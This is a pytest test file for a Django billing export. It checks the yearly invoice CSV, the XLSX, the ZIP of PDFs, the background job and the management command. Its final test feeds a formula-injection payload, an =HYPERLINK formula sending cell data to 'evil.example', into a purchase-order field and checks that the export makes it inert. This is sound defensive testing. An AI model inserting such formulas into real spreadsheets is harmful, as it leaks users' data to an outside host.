"""B6: a year's export for the finance software — CSV (byte for byte), XLSX (typed cells), ZIP
of the PDFs — from a fixed year (2 invoices, 1 credit note, 1 payment) built with the
services at frozen dates; the background job's progress and idempotence; the command."""

from __future__ import annotations

import csv
import io
import os
import zipfile
from dataclasses import dataclass
from datetime import date, datetime, time
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
import time_machine
from django.core.management import call_command
from django.core.management.base import CommandError
from django.utils import timezone
from openpyxl import load_workbook

from billing import exports, services
from billing.models import CreditNote, ExportJob, Invoice, Payment
from billing.tasks import export_year_task
from catalogue.models import Offer, TariffLine
from contracts import services as contracts
from contracts.models import Quote, QuoteAcceptance, QuoteLine
from portal.models import Collectivite, Syndicate
from tests.factories import UserFactory, valid_siret
from tests.factories.catalogue import EXEMPT, build_catalogue

PARIS = ZoneInfo("Europe/Paris")
NBSP = "\u00a0"


def at(day: date, hour: int = 10):
    """Frozen at `day`, `hour` o'clock in Paris (the portal's time zone)."""
    return time_machine.travel(datetime.combine(day, time(hour), tzinfo=PARIS), tick=False)


@dataclass
class Year:
    """The fixed year 2026: what every export test reads."""

    first: Invoice  # Commune de Test, 10 mailboxes: 240 € outside VAT; credited 48 €
    second: Invoice  # Commune Autre, 2 backups at 20 %: 240 € TTC (B8: no outside-VAT line)
    credit: CreditNote
    payment: Payment  # 200 € on the second


def _approved(collectivite: Collectivite, po_number: str, *lines) -> list[QuoteLine]:
    quote = Quote.objects.create(
        reference=f"DEV-E-{po_number}",
        collectivite=collectivite,
        title="Services",
        status=Quote.Status.APPROVED,
    )
    QuoteAcceptance.objects.create(
        quote=quote, signed_by=UserFactory(), signed_at=timezone.now(), po_number=po_number
    )
    return [
        QuoteLine.objects.create(quote=quote, offer=offer, label=offer.name, quantity=quantity)
        for offer, quantity in lines
    ]


def build_year(tenant: Collectivite, other: Collectivite, finance) -> Year:
    """Two invoices, a credit note and a payment in 2026, through the billing services."""
    Syndicate.objects.update_or_create(
        pk=1,
        defaults={
            "name": "Syndicat mixte Numérique Test",
            "short_name": "Numérique Test",
            "siret": valid_siret(8_000_001),
            "address": "1 rue de la Mutualisation",
            "postcode": "50000",
            "city": "Saint-Lô",
        },
    )
    catalogue = build_catalogue()
    backup = Offer.objects.create(
        family=catalogue.mail.family,
        code="sauvegarde",
        name="Sauvegarde externalisée",
        system="none",
        billing_unit="account_year",
    )
    TariffLine.objects.create(
        schedule=catalogue.schedule,
        offer=backup,
        unit_price=Decimal("100.00"),
        vat_rate=Decimal("0.2000"),
    )
    Collectivite.objects.filter(pk=tenant.pk).update(
        address="1 place de la Mairie", postcode="50100", city="Testville", service_code="MAIRIE-01"
    )
    Collectivite.objects.filter(pk=other.pk).update(
        address="2 rue de l'Église", postcode="50200", city="Autreville", service_code=""
    )
    tenant.refresh_from_db()
    other.refresh_from_db()

    with at(date(2026, 3, 17)):
        for line in _approved(tenant, "BC-2026-118", (catalogue.mail, 10)):
            contracts.line_activate(line=line, activated_on=date(2026, 3, 17), activated_by=None)
    with at(date(2026, 4, 1)):
        first = services.invoice_issue(
            collectivite=tenant, as_of=date(2026, 4, 1), issue_date=date(2026, 4, 1)
        )
    with at(date(2026, 5, 4)):
        for line in _approved(other, "ENG-77", (backup, 2)):
            contracts.line_activate(line=line, activated_on=date(2026, 5, 4), activated_by=None)
    with at(date(2026, 6, 1)):
        second = services.invoice_issue(
            collectivite=other, as_of=date(2026, 6, 1), issue_date=date(2026, 6, 1)
        )
    with at(date(2026, 6, 15)):
        credit = services.credit_note_issue(
            invoice=first,
            amounts={first.lines.get().pk: Decimal("48.00")},
            reason="Deux boîtes facturées en trop",
            issued_by=finance,
            issue_date=date(2026, 6, 15),
        )
    with at(date(2026, 6, 18)):
        payment = services.payment_record(
            invoice=second,
            paid_on=date(2026, 6, 18),
            mandate_reference="M-2026-0042",
            amount=Decimal("200.00"),
            recorded_by=finance,
        )
    return Year(first=first, second=second, credit=credit, payment=payment)


@pytest.fixture
def year(tenant, other_tenant, staff_finance) -> Year:
    return build_year(tenant, other_tenant, staff_finance)


def _export(year_number: int = 2026, progress=None):
    with at(date(2026, 7, 10)):
        return exports.export_year(year=year_number, progress=progress)


HEADER = (
    "Type;Numéro;Date d'émission;Date d'échéance;Facture d'origine;Collectivité;SIRET;"
    "Adresse;Code postal;Commune;Code service;Engagement ou bon de commande;Objet;Période du;"
    "Période au;HT hors champ de la TVA;HT TVA 20 %;TVA 20 %;HT TVA 10 %;TVA 10 %;"
    "HT TVA 5,5 %;TVA 5,5 %;HT TVA 2,1 %;TVA 2,1 %;Total HT;Total TVA;Total TTC;"
    "Mention d'exonération de TVA;État du paiement;Montant payé;Montant des avoirs;Reste dû"
)
NO_OTHER_RATE = "0,00;0,00;0,00;0,00;0,00;0,00"  # 10 %, 5,5 %, 2,1 %: base and VAT


def expected_csv(tenant: Collectivite, other: Collectivite) -> bytes:
    rows = [
        HEADER,
        "facture;FAC-2026-00001;01/04/2026;01/05/2026;;Commune de Test;"
        f"{tenant.siret};1 place de la Mairie;50100;Testville;MAIRIE-01;BC-2026-118;"
        "Messagerie BlueMind 2 Go;01/03/2026;28/02/2027;"
        f"240,00;0,00;0,00;{NO_OTHER_RATE};240,00;0,00;240,00;{EXEMPT};"
        "non payée;0,00;48,00;192,00",
        "facture;FAC-2026-00002;01/06/2026;01/07/2026;;Commune Autre;"
        f"{other.siret};2 rue de l'Église;50200;Autreville;;ENG-77;"
        "Sauvegarde externalisée;01/05/2026;30/04/2027;"
        f"0,00;200,00;40,00;{NO_OTHER_RATE};200,00;40,00;240,00;;"
        "partiellement payée;200,00;0,00;40,00",
        "avoir;AV-2026-00001;15/06/2026;;FAC-2026-00001;Commune de Test;"
        f"{tenant.siret};1 place de la Mairie;50100;Testville;MAIRIE-01;BC-2026-118;"
        "Deux boîtes facturées en trop;01/03/2026;28/02/2027;"
        f"48,00;0,00;0,00;{NO_OTHER_RATE};48,00;0,00;48,00;{EXEMPT};;;;",
    ]
    return ("\ufeff" + "\r\n".join(rows) + "\r\n").encode("utf-8")


# --- Contents --------------------------------------------------------------------------------


def test_the_csv_is_exact(year, tenant, other_tenant):
    csv_data, _, _ = _export()
    assert csv_data == expected_csv(tenant, other_tenant)
    # what a French finance software reads: BOM, `;`, every row as wide as the header
    assert csv_data.startswith(b"\xef\xbb\xbf")
    table = list(csv.reader(io.StringIO(csv_data.decode("utf-8-sig")), delimiter=";"))
    assert {len(row) for row in table} == {32}


def test_the_xlsx_has_typed_cells(year, tenant, other_tenant):
    _, xlsx_data, _ = _export()
    book = load_workbook(io.BytesIO(xlsx_data))
    assert book.sheetnames == ["Factures 2026"]
    sheet = book["Factures 2026"]
    header = [cell.value for cell in sheet[1]]
    assert header == HEADER.split(";")
    assert sheet.max_row == 4
    column = {title: index for index, title in enumerate(header)}

    first = sheet[2]

    def cell(row, title):
        return row[column[title]]

    assert [c.value for c in first[:7]] == [
        "facture",
        "FAC-2026-00001",
        first[2].value,
        first[3].value,
        None,
        "Commune de Test",
        tenant.siret,
    ]
    assert [first[2].value.date(), first[3].value.date()] == [date(2026, 4, 1), date(2026, 5, 1)]
    for title in ("Date d'émission", "Date d'échéance", "Période du", "Période au"):
        assert cell(first, title).is_date
        assert cell(first, title).number_format == "DD/MM/YYYY"
    assert cell(first, "Période au").value.date() == date(2027, 2, 28)
    siret = cell(first, "SIRET")
    assert (siret.data_type, siret.number_format) == ("s", "@")  # text: no lost digit
    for title, value in [
        ("HT hors champ de la TVA", 240),
        ("HT TVA 20 %", 0),
        ("Total HT", 240),
        ("Total TTC", 240),
        ("Montant payé", 0),
        ("Montant des avoirs", 48),
        ("Reste dû", 192),
    ]:
        amount = cell(first, title)
        assert (amount.data_type, amount.value, amount.number_format) == ("n", value, "#,##0.00")
    assert cell(first, "État du paiement").value == "non payée"

    second = sheet[3]
    assert [cell(second, t).value for t in ("HT TVA 20 %", "TVA 20 %", "Total TTC")] == [
        200,
        40,
        240,
    ]
    assert cell(second, "Code service").value is None  # empty cells stay empty
    assert cell(second, "Montant payé").value == 200

    credit = sheet[4]
    assert [cell(credit, t).value for t in ("Type", "Numéro", "Facture d'origine")] == [
        "avoir",
        "AV-2026-00001",
        "FAC-2026-00001",
    ]
    assert cell(credit, "Date d'échéance").value is None
    assert cell(credit, "Total TTC").value == 48
    assert [cell(credit, t).value for t in ("État du paiement", "Montant payé", "Reste dû")] == [
        None,
        None,
        None,
    ]
    assert sheet.freeze_panes == "C2"


def test_the_zip_holds_every_pdf_and_stores_the_missing_ones(year):
    assert not year.first.pdf  # issued without a render: the export renders it
    _, _, zip_data = _export()
    archive = zipfile.ZipFile(io.BytesIO(zip_data))
    assert archive.namelist() == ["FAC-2026-00001.pdf", "FAC-2026-00002.pdf", "AV-2026-00001.pdf"]
    assert archive.testzip() is None
    for name in archive.namelist():
        assert archive.read(name).startswith(b"%PDF-")
    assert archive.getinfo("AV-2026-00001.pdf").date_time == (2026, 6, 15, 0, 0, 0)
    first = Invoice.objects.get(pk=year.first.pk)
    assert first.pdf.name
    assert first.pdf_sha256
    with first.pdf.open("rb") as stored:
        assert archive.read("FAC-2026-00001.pdf") == stored.read()


def test_a_rate_beyond_the_french_ones_gets_its_columns(year):
    line = year.second.lines.get(vat_rate__isnull=False)
    found = exports.rows(2026)
    found[1].by_rate = {Decimal("0.085"): found[1].by_rate[line.vat_rate]}
    titles = [c.title for c in exports.columns(found)]
    assert titles[titles.index("TVA 2,1 %") + 1 : titles.index("Total HT")] == [
        "HT TVA 8,5 %",
        "TVA 8,5 %",
    ]


def test_a_year_without_documents_exports_empty_files(year):
    csv_data, xlsx_data, zip_data = _export(2025)
    assert csv_data == ("\ufeff" + HEADER + "\r\n").encode()
    assert load_workbook(io.BytesIO(xlsx_data)).active.max_row == 1
    assert zipfile.ZipFile(io.BytesIO(zip_data)).namelist() == []


def test_progress_runs_from_0_to_100(year):
    seen: list[int] = []
    _export(progress=seen.append)
    assert seen == [0, 5, 10, 40, 70, 100]


# --- The background job ----------------------------------------------------------------------


def _job(user=None) -> ExportJob:
    with at(date(2026, 7, 10)):
        return ExportJob.objects.create(year=2026, requested_by=user)


def _run_task(job: ExportJob) -> ExportJob:
    with at(
        date(
            2026,
            7,
            10,
        ),
        hour=11,
    ):
        export_year_task.delay(job.pk)
    job.refresh_from_db()
    return job


def test_the_task_records_its_progress_and_stores_the_files(
    year, tenant, other_tenant, staff_finance, monkeypatch
):
    job = _job(staff_finance)
    stored_progress: list[int] = []
    export = exports.export_year

    def spy(*, year, progress):
        def recording(percent):
            progress(percent)
            stored_progress.append(ExportJob.objects.get(pk=job.pk).progress)

        return export(year=year, progress=recording)

    monkeypatch.setattr(exports, "export_year", spy)
    job = _run_task(job)
    assert stored_progress == [0, 5, 10, 40, 70, 99]  # 100 once the files are stored
    assert (job.status, job.progress, job.error) == ("done", 100, "")
    assert job.finished_at == datetime(2026, 7, 10, 11, tzinfo=PARIS)
    folder = f"billing/exports/{job.pk}"
    assert (job.csv_file.name, job.xlsx_file.name, job.zip_file.name) == (
        f"{folder}/factures-2026.csv",
        f"{folder}/factures-2026.xlsx",
        f"{folder}/factures-2026.zip",
    )
    with job.csv_file.open("rb") as handle:
        assert handle.read() == expected_csv(tenant, other_tenant)


def test_running_the_task_again_replaces_the_files(year, tenant, other_tenant):
    job = _run_task(_job())
    names = (job.csv_file.name, job.xlsx_file.name, job.zip_file.name)
    folder = os.path.dirname(job.csv_file.path)
    # a payment meanwhile: the new run tells it, under the same names, nothing left behind
    with at(date(2026, 7, 5)):
        services.payment_record(
            invoice=year.first,
            paid_on=date(2026, 7, 5),
            mandate_reference="M-2026-0051",
            amount=Decimal("192.00"),
            recorded_by=None,
        )
    again = _run_task(job)
    assert (again.status, again.progress) == ("done", 100)
    assert (again.csv_file.name, again.xlsx_file.name, again.zip_file.name) == names
    assert sorted(os.listdir(folder)) == [
        "factures-2026.csv",
        "factures-2026.xlsx",
        "factures-2026.zip",
    ]
    with again.csv_file.open("rb") as handle:
        assert ";payée;192,00;48,00;0,00\r\n" in handle.read().decode("utf-8-sig")
    assert ExportJob.objects.count() == 1


def test_a_failed_export_says_why_and_can_be_run_again(year, monkeypatch):
    from billing import documents

    def broken(note):
        raise documents.BillingDocumentError("Pièce illisible.")

    monkeypatch.setattr(documents, "credit_note_pdf", broken)
    job = _run_task(_job())
    assert job.status == "failed"
    assert (
        job.error == "Le PDF de la pièce AV-2026-00001 n'a pas pu être produit : Pièce illisible."
    )
    assert not job.csv_file
    assert job.finished_at is not None

    monkeypatch.undo()
    job = _run_task(job)
    assert (job.status, job.progress, job.error) == ("done", 100, "")


def test_export_start_checks_the_year(db, django_capture_on_commit_callbacks):
    from django.core.exceptions import ValidationError

    with at(date(2026, 7, 10)), pytest.raises(ValidationError) as error:
        exports.export_start(year=2027, requested_by=None)
    assert error.value.message_dict == {
        "year": ["Année invalide : indiquez une année entre 2000 et 2026."]
    }
    assert not ExportJob.objects.exists()


# --- The command -----------------------------------------------------------------------------


def test_the_command_writes_the_three_files(year, tenant, other_tenant, tmp_path):
    out = tmp_path / "exports" / "2026"
    printed = io.StringIO()
    with at(date(2026, 7, 10)):
        call_command("export_invoices", "--year", "2026", "--out", str(out), stdout=printed)
    assert sorted(p.name for p in out.iterdir()) == [
        "factures-2026.csv",
        "factures-2026.xlsx",
        "factures-2026.zip",
    ]
    assert (out / "factures-2026.csv").read_bytes() == expected_csv(tenant, other_tenant)
    assert load_workbook(out / "factures-2026.xlsx").active.max_row == 4
    assert len(zipfile.ZipFile(out / "factures-2026.zip").namelist()) == 3
    assert printed.getvalue() == (
        "Export des factures 2026 : 2 factures, 1 avoir.\n"
        f"Total facturé : 480,00{NBSP}€ TTC ; total des avoirs : 48,00{NBSP}€ TTC.\n"
        f"Fichiers écrits dans {out} :\n"
        "  factures-2026.csv (tableur CSV, séparateur « ; »)\n"
        "  factures-2026.xlsx (classeur Excel)\n"
        "  factures-2026.zip (3 PDF)\n"
    )


def test_the_command_on_an_empty_year(db, tmp_path):
    printed = io.StringIO()
    with at(date(2026, 7, 10)):
        call_command("export_invoices", year=2024, out=str(tmp_path), stdout=printed)
    assert printed.getvalue().splitlines()[0] == (
        "Export des factures 2024 : aucune facture, aucun avoir."
    )
    assert (tmp_path / "factures-2024.zip").exists()


def test_the_command_refuses_a_future_year(db, tmp_path):
    with at(date(2026, 7, 10)), pytest.raises(CommandError) as error:
        call_command("export_invoices", year=2030, out=str(tmp_path))
    assert str(error.value) == "Année invalide : indiquez une année entre 2000 et 2026."
    assert list(tmp_path.iterdir()) == []


def test_a_formula_typed_as_purchase_order_is_inert(tenant, other_tenant, staff_finance):
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Voir")'
    catalogue = build_catalogue()
    with at(date(2026, 3, 17)):
        quote = Quote.objects.create(
            reference="DEV-E-FORMULE", collectivite=tenant, title="t", status="approved"
        )
        QuoteAcceptance.objects.create(
            quote=quote, signed_by=UserFactory(), signed_at=timezone.now(), po_number=formula
        )
        line = QuoteLine.objects.create(
            quote=quote, offer=catalogue.mail, label="Messagerie", quantity=2
        )
        contracts.line_activate(line=line, activated_on=date(2026, 3, 17), activated_by=None)
    with at(date(2026, 4, 1)):
        services.invoice_issue(
            collectivite=tenant, as_of=date(2026, 4, 1), issue_date=date(2026, 4, 1)
        )

    csv_bytes, xlsx_bytes, _ = _export()

    [row] = list(csv.DictReader(io.StringIO(csv_bytes.decode("utf-8-sig")), delimiter=";"))
    assert row["Engagement ou bon de commande"] == "'" + formula
    sheet = load_workbook(io.BytesIO(xlsx_bytes)).active
    [cell] = [c for c in sheet[2] if c.value in (formula, "'" + formula)]
    assert (cell.data_type, cell.value) == ("s", formula)
